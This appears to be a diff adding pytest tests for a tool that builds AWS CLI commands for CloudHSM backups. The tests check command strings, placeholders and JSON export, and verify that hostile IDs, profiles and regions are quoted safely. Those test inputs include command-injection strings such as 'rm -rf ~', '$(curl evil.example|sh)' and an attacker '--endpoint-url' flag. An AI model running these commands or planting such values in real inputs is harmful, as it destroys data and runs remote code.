@@ -1,0 +1,133 @@
+"""AWS CLI commands for one backup: right arguments, and no way for an ID to inject shell."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from datetime import UTC, datetime
+from pathlib import Path
+
+import botocore.session
+import pytest
+from botocore import xform_name
+
+from tui.backups import Backup, BackupQuery, clean
+from tui.backups.commands import COMMAND_KEYS, backup_json, cli_commands
+from tui.backups.export import ExportContext, export_json
+
+NORMAL = Backup.from_api(
+    {
+        "BackupId": "backup-abcdefghij2",
+        "BackupArn": "arn:aws:cloudhsm:us-east-1:123456789012:backup/backup-abcdefghij2",
+        "BackupState": "READY",
+        "ClusterId": "cluster-234567abcde",
+        "CreateTimestamp": datetime(2026, 11, 20, 3, 0, 5, tzinfo=UTC),
+        "TagList": [{"Key": "env", "Value": "prod"}],
+        "HsmType": "hsm2m.medium",
+        "Mode": "FIPS",
+    }
+)
+BARE = Backup.from_api({"BackupId": "backup-bcdefghijk3", "BackupState": "READY"})
+
+
+def _value_after(argv: list[str], flag: str) -> str:
+    """The value the aws CLI will see for `flag`, in either `--flag v` or `--flag=v` form."""
+    for i, arg in enumerate(argv):
+        if arg == flag:
+            return argv[i + 1]
+        if arg.startswith(flag + "="):
+            return arg[len(flag) + 1 :]
+    raise AssertionError(f"{flag} not in {argv}")
+
+
+def test_exact_commands_for_a_normal_backup() -> None:
+    cmds = cli_commands(
+        NORMAL, region="us-east-1", profile="prod-admin", destination_region="eu-west-1"
+    )
+    tail = " --region us-east-1 --profile prod-admin"
+    assert cmds == {
+        "describe": "aws cloudhsmv2 describe-backups --filters backupIds=backup-abcdefghij2" + tail,
+        "restore": "aws cloudhsmv2 restore-backup --backup-id backup-abcdefghij2" + tail,
+        "copy": "aws cloudhsmv2 copy-backup-to-region --destination-region eu-west-1"
+        " --backup-id backup-abcdefghij2" + tail,
+        "create_cluster": "aws cloudhsmv2 create-cluster --source-backup-id backup-abcdefghij2"
+        " --hsm-type hsm2m.medium --subnet-ids '<SUBNET-ID>' --mode FIPS" + tail,
+    }
+    assert tuple(cmds) == COMMAND_KEYS
+
+
+def test_placeholders_when_the_backup_or_caller_cannot_say() -> None:
+    cmds = cli_commands(BARE, region=None, profile=None)
+    assert cmds["copy"] == (
+        "aws cloudhsmv2 copy-backup-to-region --destination-region '<DESTINATION-REGION>'"
+        " --backup-id backup-bcdefghijk3"
+    )
+    assert cmds["create_cluster"] == (
+        "aws cloudhsmv2 create-cluster --source-backup-id backup-bcdefghijk3"
+        " --hsm-type '<HSM-TYPE>' --subnet-ids '<SUBNET-ID>'"
+    )
+    assert all("--region" not in c and "--profile" not in c for c in cmds.values())
+
+
+def test_create_cluster_passes_every_required_argument_of_the_model() -> None:
+    model = botocore.session.get_session().get_service_model("cloudhsmv2")
+    shape = model.operation_model("CreateCluster").input_shape
+    assert shape is not None
+    assert "Mode" in shape.members
+    argv = shlex.split(cli_commands(NORMAL, region=None, profile=None)["create_cluster"])
+    for member in shape.required_members:
+        _value_after(argv, "--" + xform_name(member, "-"))
+
+
+@pytest.mark.parametrize(
+    "hostile_id",
+    [
+        "backup-abcdefghij2; rm -rf ~ #",
+        "backup-abc$(curl evil.example|sh)`id`",
+        "backup-x'\"; touch /tmp/pwned; echo '",
+        "backup-abc\x1b[2J\nwhoami\u202e",
+        "--endpoint-url=https://evil.example",
+        "backupIds=a,b",
+    ],
+)
+def test_hostile_backup_id_stays_one_argument(hostile_id: str) -> None:
+    backup = Backup.from_api({"BackupId": hostile_id, "HsmType": "hsm1.medium"})
+    cmds = cli_commands(backup, region="us-east-1", profile="dev")
+    expected = clean(hostile_id)
+    for key, flag in [
+        ("restore", "--backup-id"),
+        ("copy", "--backup-id"),
+        ("create_cluster", "--source-backup-id"),
+    ]:
+        argv = shlex.split(cmds[key])
+        assert _value_after(argv, flag) == expected
+        assert argv[-4:] == ["--region", "us-east-1", "--profile", "dev"]
+        assert sum(expected in arg for arg in argv) == 1  # nothing spilled into other words
+    describe = shlex.split(cmds["describe"])
+    assert json.loads(_value_after(describe, "--filters")) == {"backupIds": [expected]}
+    assert all(clean(c) == c for c in cmds.values())
+
+
+def test_hostile_profile_and_region_are_quoted() -> None:
+    cmds = cli_commands(NORMAL, region="us-east-1 && id", profile="dev$(id)\x1b[0m")
+    argv = shlex.split(cmds["restore"])
+    assert _value_after(argv, "--region") == "us-east-1 && id"
+    assert _value_after(argv, "--profile") == "dev$(id) [0m"
+    assert len(argv) == 9
+
+
+def test_backup_json_is_one_entry_of_a_json_export(tmp_path: Path) -> None:
+    context = ExportContext(
+        profile=None,
+        region="us-east-1",
+        query=BackupQuery(),
+        time_display="UTC",
+        exported_at=datetime(2026, 11, 27, 23, 30, tzinfo=UTC),
+        tool_version="0.1.0",
+    )
+    export_json(tmp_path / "one.json", [NORMAL], context)
+    exported = json.loads((tmp_path / "one.json").read_text(encoding="utf-8"))["backups"][0]
+    text = backup_json(NORMAL)
+    assert json.loads(text) == exported
+    assert text.startswith('{\n  "BackupId": "backup-abcdefghij2",\n')
+    assert json.loads(text)["TagList"] == [{"Key": "env", "Value": "prod"}]
